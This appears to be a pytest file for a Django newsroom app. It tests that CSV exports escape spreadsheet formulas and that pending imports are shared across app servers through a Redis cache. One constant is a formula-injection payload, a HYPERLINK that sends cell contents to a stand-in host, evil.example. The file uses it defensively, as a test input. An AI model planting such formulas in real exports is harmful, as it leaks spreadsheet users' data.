"""CSV import and export across app servers: formulas typed by editors stay text in a spreadsheet,
and an upload waiting for confirmation lives where every app server can read it."""

import csv
import io
import runpy
from pathlib import Path

import pytest

from tests.vehicles.test_import import GOOD_POWERTRAINS, upload
from vehicles.models import MarketAvailability, Powertrain

SETTINGS_FILE = Path(__file__).resolve().parents[2] / "newsroom" / "settings.py"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def export_market_launches(client):
    export_url = "/admin/vehicles/marketavailability/export/"
    form = client.get(export_url).context["form"]
    chosen = {name: "on" for name in form.fields if name.startswith("marketavailabilityresource_")}
    response = client.post(export_url, {"format": "0", "resource": "0", **chosen})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_formula_typed_into_a_launch_note_exports_as_text(client, editor, tundra):
    launch = MarketAvailability.objects.filter(vehicle_model=tundra).first()
    launch.note = FORMULA
    launch.save()
    client.force_login(editor)

    rows = export_market_launches(client)

    notes = [row["note"] for row in rows]
    assert "'" + FORMULA in notes  # every character is kept, behind a quote that makes it text


def settings_with(monkeypatch, **environ):
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    return runpy.run_path(str(SETTINGS_FILE))


@pytest.mark.parametrize(
    ("redis_url", "storage"),
    [("redis://127.0.0.1:6379/0", "import_export.tmp_storages.CacheStorage"), ("", None)],
)
def test_uploads_waiting_for_confirmation_are_shared_when_the_cache_is(monkeypatch, redis_url, storage):
    loaded = settings_with(monkeypatch, REDIS_URL=redis_url)
    # With Redis, the confirm step may reach any app server; without it there is one server and local /tmp.
    assert loaded.get("IMPORT_EXPORT_TMP_STORAGE_CLASS") == storage
    assert loaded["IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT"] is True


def test_import_confirmed_on_another_app_server_reads_the_upload_from_the_shared_cache(
    client, editor, toyotas, settings, tmp_path, monkeypatch
):
    settings.IMPORT_EXPORT_TMP_STORAGE_CLASS = "import_export.tmp_storages.CacheStorage"  # as with REDIS_URL
    client.force_login(editor)
    preview = client.post(
        "/admin/vehicles/powertrain/import/", {"format": "0", "import_file": upload(GOOD_POWERTRAINS)}
    )
    confirm = preview.context["confirm_form"]

    other_server_tmp = tmp_path / "other-server-tmp"
    other_server_tmp.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(other_server_tmp))  # this server never saw the upload
    response = client.post(
        "/admin/vehicles/powertrain/process_import/",
        {name: confirm[name].value() for name in ("import_file_name", "original_file_name", "format", "resource")},
    )

    assert response.status_code == 302
    assert Powertrain.objects.filter(name="i-FORCE 3.4 L tuned").exists()
